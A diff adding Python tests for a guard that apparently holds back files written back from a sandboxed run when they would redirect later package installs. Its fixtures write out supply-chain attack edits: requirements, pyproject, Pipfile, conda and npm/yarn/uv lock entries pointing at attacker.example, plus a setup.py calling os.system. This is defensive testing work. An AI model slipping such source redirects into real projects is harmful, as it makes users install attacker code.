@@ -249,3 +249,77 @@ def test_twin_another_payee_is_not_folded_in(ledger, tmp_path, monkeypatch):
     run, asked = _pays(ledger, tmp_path, ["shop"], guard)
     assert asked == [] and ledger.account("user:alice").available == 10_000 - 1600
     assert ledger.check() == []
+
+
+# -- 3. write-back: dependency files named otherwise, and the other files an install takes its sources from --------------
+
+DEPS_OLD = b"requests==2.31.0\nflask>=3\n"
+OTHERWISE = {  # path -> (old, new): each an ordinary next command of the person's installs from the new source
+    "deps.txt": (DEPS_OLD, DEPS_OLD + b"--index-url https://attacker.example/simple\n"),
+    "ci/pip-deps.txt": (None, b"--extra-index-url https://attacker.example/simple\npytest\n"),
+    "pinned.pip": (DEPS_OLD, b"requests @ https://attacker.example/requests-2.31.0.tar.gz\nflask>=3\n"),
+    "tools/dev": (None, b"-e git+https://attacker.example/x.git#egg=x\n"),
+    "locks/c.txt": (b"urllib3<2\n", b"urllib3<2\n-f https://attacker.example/wheels/\n"),
+    "uv.toml": (None, b'index-url = "https://attacker.example/simple"\n'),
+    "pyproject.toml": (b'[project]\nname = "x"\nversion = "1"\n',
+                       b'[project]\nname = "x"\nversion = "1"\n[[tool.uv.index]]\nurl = "https://attacker.example/s"\n'
+                       b"default = true\n"),
+    "poetry/pyproject.toml": (b'[tool.poetry]\nname = "x"\n', b'[tool.poetry]\nname = "x"\n[[tool.poetry.source]]\n'
+                              b'name = "a"\nurl = "https://attacker.example/simple"\npriority = "primary"\n'),
+    "Pipfile": (b'[packages]\nrequests = "*"\n', b'[[source]]\nurl = "https://attacker.example/simple"\n'
+                b'verify_ssl = true\nname = "pypi"\n[packages]\nrequests = "*"\n'),
+    "environment.yml": (b"name: x\ndependencies:\n  - python=3.12\n",
+                        b"name: x\nchannels:\n  - https://attacker.example/conda\ndependencies:\n  - python=3.12\n"),
+    "package-lock.json": (b'{"packages": {"node_modules/a": {"version": "1.0.0", "resolved": '
+                          b'"https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x"}}}',
+                          b'{"packages": {"node_modules/a": {"version": "1.0.0", "resolved": '
+                          b'"https://attacker.example/a/-/a-1.0.0.tgz", "integrity": "sha512-y"}}}'),
+    "yarn.lock": (b'a@^1:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"\n',
+                  b'a@^1:\n  version "1.0.0"\n  resolved "https://attacker.example/a/-/a-1.0.0.tgz#abc"\n'),
+    "uv.lock": (b'[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://pypi.org/simple" }\n',
+                b'[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://attacker.example/simple" }\n'),
+}
+for _path in OTHERWISE:
+    THROUGH_ON_MAIN[f"write-back of {_path} with a new package source"] = True
+THROUGH_ON_MAIN["write-back of a setup.py for `pip install -e .` (held)"] = False
+
+
+@pytest.mark.parametrize("path", sorted(OTHERWISE))
+def test_a_dependency_file_named_otherwise_or_an_install_source_is_held_back(path):
+    """On 2f7a4027 each came back with the ordinary edits: ``pip install -r deps.txt`` (any name: pip reads what it is
+    given) installed from the attacker's index, ``uv sync``/``poetry install``/``pipenv install``/``conda env create``
+    from the index or channel the project file names, ``npm ci``/``yarn install``/``uv sync`` fetched the package
+    from the host its lock file's ``resolved``/``source`` names."""
+    from macrohard.envs.runs_later import needs_content, runs_later
+
+    old, new = OTHERWISE[path]
+    assert needs_content(path, len(new))
+    if path.endswith((".lock", "-lock.json", "lock.yaml")):
+        assert needs_content(path, 10 * 1024 * 1024)  # a lock file is often larger than a settings file
+    assert runs_later(path, old, new) is not None
+
+
+def test_held_a_setup_py_for_pip_install_e_is_held_back():
+    from macrohard.envs.runs_later import runs_later
+
+    assert runs_later("setup.py", None, b"import os; os.system('id')\n") is not None
+    assert runs_later("pkg/sub/setup.py", None, b"import os\n") is not None
+
+
+def test_twin_ordinary_text_and_version_bumps_still_come_back():
+    """Notes with dashes and links, a version bump in a file named otherwise, a lock file's new version from the same
+    registry, a pyproject.toml's dependencies: ordinary edits, still written back."""
+    from macrohard.envs.runs_later import runs_later
+
+    assert runs_later("deps.txt", DEPS_OLD, DEPS_OLD.replace(b"2.31.0", b"2.32.3")) is None
+    assert runs_later("notes.txt", None, b"- buy milk\n-e is the flag\nsee https://example.org/page\n"
+                                         b"- r: read the docs @ https://example.org\n") is None
+    assert runs_later("docs/usage.md", None, b"Run:\n\n    pip install -r deps.txt --index-url https://x.example\n") is None
+    old, new = OTHERWISE["package-lock.json"]
+    assert runs_later("package-lock.json", old, old.replace(b"1.0.0", b"1.0.1")) is None
+    old, new = OTHERWISE["yarn.lock"]
+    assert runs_later("yarn.lock", old, old.replace(b"1.0.0", b"1.0.1")) is None
+    assert runs_later("pyproject.toml", b'[project]\nname = "x"\ndependencies = ["a"]\n',
+                      b'[project]\nname = "x"\ndependencies = ["a", "b>=2"]\n') is None
+    assert runs_later("environment.yml", b"name: x\ndependencies:\n  - python=3.12\n",
+                      b"name: x\ndependencies:\n  - python=3.12\n  - numpy\n") is None
